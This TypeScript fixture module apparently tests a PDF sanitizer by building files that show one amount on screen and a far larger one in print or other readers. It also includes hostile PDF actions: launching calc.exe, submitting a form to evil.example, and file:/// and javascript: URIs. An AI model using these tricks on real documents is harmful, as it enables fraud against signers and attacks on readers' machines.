/** PDFs that show one amount on a screen and another elsewhere: in print, in another program, or after a click. */
import { deflateSync } from "node:zlib";
import { type Part, pdfOf, streamOf, withObject, withoutTable } from "./pdf.ts";

export const onScreen = "100 EUR";
export const elsewhere = "1 000 000 EUR";

export interface TwoFaced {
  what: string;
  bytes(): Buffer;
  /** The renderer that is deceived. If null, the trick works in programs that no test has, so it must be removed. */
  deceives: "pdf.js" | "poppler" | null;
  /** The note to the sender, if something in the file is left out. */
  note?: RegExp;
}

interface Parts {
  catalog?: string;
  /** Besides the font. */
  resources?: string;
  page?: string;
  /** Numbered from 6. */
  objects?: Part[];
}

export const write = (text: string, y = 700) => `BT /F1 40 Tf 60 ${y} Td (${text}) Tj ET\n`;
/** The full text, to be covered or removed. */
const both = `${write(elsewhere)}1 1 1 rg 50 680 500 70 re f 0 g\n${write(onScreen, 500)}`;

/** One page: its catalog is object 1, the page 3, its content 4, its font 5. */
export function pageOf(
  content: string | Buffer,
  { catalog = "", resources = "", page = "", objects = [] }: Parts = {},
) {
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    "<</Type/Pages/Count 1/Kids[3 0 R]>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>${resources}>>${page}>>`,
    streamOf(Buffer.from(content as string), ""),
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ...objects,
  ]);
}

const form = (content: string, more = "") =>
  streamOf(
    Buffer.from(content),
    `/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</Font<</F1 5 0 R>>>>${more}`,
  );

const section = (name: string, content: string) => `/OC /${name} BDC\n${content}EMC\n`;

const viewed = "<</Type/OCG/Name(a)/Usage<</View<</ViewState/ON>>/Print<</PrintState/OFF>>>>>>";
const printed = "<</Type/OCG/Name(b)/Usage<</View<</ViewState/OFF>>/Print<</PrintState/ON>>>>>>";
const events = ["View", "Print"]
  .map((event) => `<</Event/${event}/Category[/${event}]/OCGs[6 0 R 7 0 R]>>`)
  .join("");
const switched = `/OCProperties<</OCGs[6 0 R 7 0 R]/D<</ON[6 0 R 7 0 R]/AS[${events}]>>>>`;
const off = "/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]>>>>";
const layerNote = /layers that are switched off/;

export const annotation = (flags: number, content: string, more = ""): Part[] => [
  `<</Type/Annot/Subtype/Stamp/Rect[50 480 550 560]/F ${flags}/AP<</N 7 0 R>>${more}>>`,
  streamOf(
    Buffer.from(`1 1 1 rg 0 0 500 80 re f 0 g BT /F1 40 Tf 10 20 Td (${content}) Tj ET`),
    "/Type/XObject/Subtype/Form/BBox[0 0 500 80]/Resources<</Font<</F1 5 0 R>>>>",
  ),
];
const annotated = (flags: number, content: string, more?: string) =>
  pageOf(write(onScreen, 500), { page: "/Annots[6 0 R]", objects: annotation(flags, content, more) });

const layers: TwoFaced[] = [
  {
    what: "one layer for screens and another for print",
    deceives: "pdf.js",
    note: layerNote,
    bytes: () =>
      pageOf(section("A", write(onScreen)) + section("B", write(elsewhere)), {
        catalog: switched,
        resources: "/Properties<</A 6 0 R/B 7 0 R>>",
        objects: [viewed, printed],
      }),
  },
  {
    what: "one form object for screens and another for print",
    deceives: "pdf.js",
    note: layerNote,
    bytes: () =>
      pageOf("/X Do /Y Do", {
        catalog: switched,
        resources: "/XObject<</X 8 0 R/Y 9 0 R>>",
        objects: [viewed, printed, form(write(onScreen), "/OC 6 0 R"), form(write(elsewhere), "/OC 7 0 R")],
      }),
  },
  {
    what: "layers inside a form object",
    deceives: "pdf.js",
    note: layerNote,
    bytes: () =>
      pageOf("/X Do", {
        catalog: switched,
        resources: "/XObject<</X 8 0 R>>",
        objects: [
          viewed,
          printed,
          streamOf(
            deflateSync(section("A", write(onScreen)) + section("B", write(elsewhere))),
            "/Subtype/Form/BBox[0 0 600 800]/Filter/FlateDecode/Resources<</Font<</F1 5 0 R>>/Properties<</A 6 0 R/B 7 0 R>>>>",
          ),
        ],
      }),
  },
  {
    what: "content shown only while a layer is off",
    deceives: "pdf.js",
    note: layerNote,
    bytes: () =>
      pageOf(section("M", write(elsewhere)) + section("A", write(onScreen)), {
        catalog: switched,
        resources: "/Properties<</A 6 0 R/M 8 0 R>>",
        objects: [viewed, printed, "<</Type/OCMD/VE[/Not 6 0 R]>>"],
      }),
  },
  {
    what: "a hidden layer that an action shows",
    deceives: null,
    note: layerNote,
    bytes: () =>
      pageOf(section("A", write(elsewhere)) + write(onScreen, 500), {
        catalog: `${off}/OpenAction<</S/SetOCGState/State[/ON 6 0 R]>>`,
        resources: "/Properties<</A 6 0 R>>",
        objects: ["<</Type/OCG/Name(a)>>"],
      }),
  },
  {
    what: "a hidden layer that is never closed",
    deceives: null,
    note: layerNote,
    bytes: () =>
      pageOf(`q ${write(onScreen, 500)} Q /OC /A BDC 0.5 0 0 0.5 0 0 cm q ${write(elsewhere)}`, {
        catalog: off,
        resources: "/Properties<</A 6 0 R>>",
        objects: ["<</Type/OCG/Name(a)>>"],
      }),
  },
];

const annotations: TwoFaced[] = [
  {
    what: "a stamp that appears only in print",
    deceives: "pdf.js",
    note: /annotations that show only in print/,
    bytes: () => annotated(0b100100, elsewhere),
  },
  {
    what: "a stamp that hides an amount on screen but not in print",
    deceives: "pdf.js",
    bytes: () => pageOf(write(elsewhere, 500), { page: "/Annots[6 0 R]", objects: annotation(0, onScreen) }),
  },
  {
    what: "a hidden stamp that a script shows before printing",
    deceives: null,
    note: /runs programs/,
    bytes: () =>
      pageOf(write(onScreen, 500), {
        catalog: "/AA<</WP<</S/JavaScript/JS(getAnnots[0].hidden = false)>>>>",
        page: "/Annots[6 0 R]",
        objects: annotation(0b110, elsewhere),
      }),
  },
  {
    what: "a form field that hides an amount on screen but not in print",
    deceives: "pdf.js",
    bytes: () =>
      pageOf(write(elsewhere, 500), {
        catalog: "/AcroForm<</Fields[6 0 R]>>",
        page: "/Annots[6 0 R]",
        objects: [
          "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(100)/Rect[50 480 550 560]/F 0/AP<</N 7 0 R>>>>",
          annotation(0, onScreen)[1]!,
        ],
      }),
  },
  {
    what: "highlight, strike-out, square and ink annotations that have no appearance",
    deceives: null,
    bytes: () =>
      pageOf(write(onScreen, 500), {
        page: "/Annots[6 0 R 7 0 R 8 0 R 9 0 R]",
        objects: ["Highlight", "StrikeOut", "Square", "Ink"].map(
          (kind) =>
            `<</Type/Annot/Subtype/${kind}/Rect[60 490 260 540]/C[1 0 0]/QuadPoints[60 540 260 540 60 490 260 490]/InkList[[60 490 260 540]]/F 4>>`,
        ),
      }),
  },
];

export const pixels = (shade: number, more = "") =>
  streamOf(
    Buffer.alloc(4, shade),
    `/Type/XObject/Subtype/Image/Width 2/Height 2/ColorSpace/DeviceGray/BitsPerComponent 8${more}`,
  );
const drawn = (objects: Part[], resources: string) => ({ resources, objects });

const graphics: TwoFaced[] = [
  {
    what: "an alternate image for print",
    deceives: null,
    bytes: () =>
      pageOf(
        "q 300 0 0 100 60 600 cm /I Do Q",
        drawn(
          [pixels(200, "/Alternates[<</Image 7 0 R/DefaultForPrinting true>>]"), pixels(0)],
          "/XObject<</I 6 0 R>>",
        ),
      ),
  },
  {
    what: "PostScript code that only printers run",
    deceives: null,
    bytes: () =>
      pageOf(
        `${write(onScreen, 500)}/P Do /Q Do`,
        drawn(
          [
            streamOf(Buffer.from(`(${elsewhere}) show`), "/Type/XObject/Subtype/PS"),
            form("", "/Subtype2/PS/PS 6 0 R"),
          ],
          "/XObject<</P 6 0 R/Q 7 0 R>>",
        ),
      ),
  },
  {
    what: "images and content from other files",
    deceives: null,
    bytes: () =>
      pageOf(
        `${write(onScreen, 500)}/A Do /B Do`,
        drawn(
          [
            form("", "/OPI<</2.0<</Type/OPI/Version 2.0/F(million.tif)>>>>"),
            form("", "/Ref<</F(million.pdf)/Page 0>>"),
            streamOf(Buffer.from(write(onScreen)), "/F(million.bin)/FFilter/FlateDecode"),
          ],
          "/XObject<</A 6 0 R/B 7 0 R>>",
        ),
      ),
  },
  {
    what: "a covered amount that shows in print by overprinting",
    deceives: null,
    bytes: () =>
      pageOf(
        `0 0 0 1 k ${write(elsewhere)} /G gs 0 0 0 0 k 50 680 500 70 re f 0 g ${write(onScreen, 500)}`,
        drawn(["<</Type/ExtGState/OP true/op true/OPM 1/TR/Identity/HT/Default>>"], "/ExtGState<</G 6 0 R>>"),
      ),
  },
  {
    what: "an ink that is white on screen and black in print",
    deceives: null,
    bytes: () =>
      pageOf(
        `/S cs 1 scn ${write(elsewhere)} /D cs 1 scn ${write(elsewhere, 600)} 0 g ${write(onScreen, 500)}`,
        drawn(
          ["<</FunctionType 2/Domain[0 1]/N 1/C0[1]/C1[1]>>"],
          "/ColorSpace<</S[/Separation/Black/DeviceGray 6 0 R]/D[/DeviceN[/Black]/DeviceGray 6 0 R]>>",
        ),
      ),
  },
  {
    what: "an amount outside the crop box",
    deceives: "poppler",
    bytes: () =>
      pageOf(both.replace("1 1 1 rg 50 680 500 70 re f", ""), {
        page: "/CropBox[0 0 600 650]/TrimBox[0 0 600 800]/BleedBox[0 0 600 800]",
        catalog: "/ViewerPreferences<</PrintArea/MediaBox/PrintClip/MediaBox>>",
      }),
  },
];

const actions = [
  "<</S/Launch/F(calc.exe)>>",
  "<</S/SubmitForm/F(https://evil.example)>>",
  "<</S/ImportData/F(a.fdf)>>",
  "<</S/Rendition/OP 0>>",
  "<</S/Named/N/Print>>",
  "<</S/GoToR/F(b.pdf)/D[0/Fit]>>",
  "<</S/GoToE/T<</R/C/N(a)>>>>",
  "<</S/Hide/T(a)>>",
  "<</S/URI/URI(file:///etc/passwd)>>",
  "<</S/URI/URI(javascript:alert\\(1\\))>>",
  "<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(evil)>>>>",
];
const fileAt = (number: number) => `<</Type/Filespec/F(million.pdf)/EF<</F ${number} 0 R>>>>`;
const attached = streamOf(Buffer.from(elsewhere), "/Type/EmbeddedFile/Subtype/text#2Fplain");

const carried: TwoFaced[] = [
  {
    what: "scripts and actions for every event",
    deceives: null,
    note: /runs programs/,
    bytes: () =>
      pageOf(write(onScreen, 500), {
        catalog:
          "/OpenAction 6 0 R/AA<</WC 6 0 R>>/Names<</JavaScript<</Names[(a)6 0 R]>>>>/Outlines 7 0 R/Threads[6 0 R]",
        page: `/AA<</O 6 0 R>>/Annots[${actions.map((_, index) => `${index + 9} 0 R`).join(" ")}]`,
        objects: [
          "<</S/JavaScript/JS(evil)>>",
          "<</Type/Outlines/First 8 0 R/Last 8 0 R/Count 1>>",
          "<</Title(Open)/Parent 7 0 R/A<</S/Launch/F(calc.exe)>>>>",
          ...actions.map(
            (action) => `<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A ${action}/AA<</E 6 0 R>>>>`,
          ),
        ],
      }),
  },
  {
    what: "attached files and media",
    deceives: null,
    note: /has files attached/,
    bytes: () =>
      pageOf(write(onScreen, 500), {
        catalog: "/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>/Renditions<</Names[(b)6 0 R]>>>>/AF[6 0 R]",
        page: "/AF[6 0 R]/Thumb 8 0 R/PieceInfo<</X<</Private 6 0 R>>>>/Annots[9 0 R 10 0 R 11 0 R]",
        objects: [
          fileAt(7),
          attached,
          pixels(0, "/AF[6 0 R]"),
          "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>",
          "<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(a)6 0 R]>>>>>>",
          "<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/R<</C<</D 6 0 R>>>>>>>>",
        ],
      }),
  },
  {
    what: "a form that is also described in XFA",
    deceives: null,
    note: /second description/,
    bytes: () =>
      pageOf(write(onScreen, 500), {
        catalog: "/AcroForm<</Fields[]/XFA 6 0 R>>",
        objects: [streamOf(Buffer.from(`<xdp>${elsewhere}</xdp>`), "")],
      }),
  },
];

export const twoFaced: TwoFaced[] = [...layers, ...annotations, ...graphics, ...carried];

/** Files that cannot be made to show a single thing: sending them is refused, with these words. */
export const unfreezable: { what: string; bytes(): Buffer; says: RegExp }[] = [
  {
    what: "pages that XFA generates",
    says: /XFA/,
    bytes: () =>
      pageOf(write("Please wait"), {
        catalog: "/NeedsRendering true/AcroForm<</XFA 6 0 R>>",
        objects: ["()"],
      }),
  },
  {
    what: "a portfolio of files",
    says: /portfolio/,
    bytes: () => pageOf(write(onScreen), { catalog: "/Collection<</View/T>>" }),
  },
  {
    what: "a layer that starts within a line of text",
    says: /middle of a line/,
    bytes: () =>
      pageOf(`BT /F1 20 Tf 60 700 Td (1) Tj /OC /A BDC (000) Tj EMC (00 EUR) Tj ET`, {
        catalog: off,
        resources: "/Properties<</A 6 0 R>>",
        objects: ["<</Type/OCG/Name(a)>>"],
      }),
  },
  {
    what: "a page listed twice in its page tree",
    says: /is broken/,
    bytes: () =>
      Buffer.from(
        pageOf(write(onScreen))
          .toString("latin1")
          .replace("/Count 1/Kids[3 0 R]", "/Count 2/Kids[3 0 R 3 0 R]"),
        "latin1",
      ),
  },
  {
    what: "a second copy of an object that its cross-reference table does not list",
    says: /programs read it differently/,
    bytes: () => shadowed(pageOf(write(onScreen)), 4, streamOf(Buffer.from(write(elsewhere)), "")),
  },
];

/** Adds an object to the file a second time, where its table does not point. */
export function shadowed(file: Buffer, number: number, part: Part): Buffer {
  const { objects, table } = withoutTable(file);
  const bytes = withObject(objects, number, part);
  return Buffer.concat([bytes, Buffer.from(table.replace(/startxref\n\d+/, `startxref\n${bytes.length}`))]);
}
